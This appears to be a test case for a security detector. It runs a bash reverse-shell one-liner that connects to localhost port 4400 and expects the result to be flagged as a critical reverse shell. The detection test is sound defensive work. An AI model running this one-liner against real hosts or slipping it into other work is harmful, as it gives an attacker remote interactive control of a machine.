# about: bash opens the connection itself and puts it onto its own streams
# expect: reverse_shell critical
# needs: python3 bash
peer 4400
bash -c 'bash -i >& /dev/tcp/127.0.0.1/4400 0>&1' || true
done_typing
